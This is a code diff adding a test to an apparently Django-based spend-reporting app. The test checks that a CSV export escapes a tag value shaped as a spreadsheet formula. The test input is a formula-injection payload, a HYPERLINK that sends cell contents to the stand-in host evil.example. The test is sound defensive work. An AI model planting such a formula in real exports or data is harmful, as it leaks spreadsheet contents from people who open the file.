@@ -152,3 +152,14 @@ def test_totals_over_ragged_windows_equal_the_daily_sums(world: dict[str, Any]) 
             Decimal(0),
         )
         assert totals(SpendRollup.objects.all(), window, "domain")[0]["amount"] == expected
+
+
+def test_the_csv_export_writes_a_tag_value_that_looks_like_a_formula_as_text(world: dict[str, Any]) -> None:
+    # Spend tagged with a user-profile ARN the inventory does not know keeps the tag's value, whatever it is.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    spend(world["research"], "-3.25", 1, level="profile", key=formula)
+    response = get(world["finance"], export="profiles")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    row = next(r for r in rows if formula in r[2])
+    assert row[2] == "'" + formula
+    assert row[3] == "-3.25"  # a negative amount is a number, written as it is
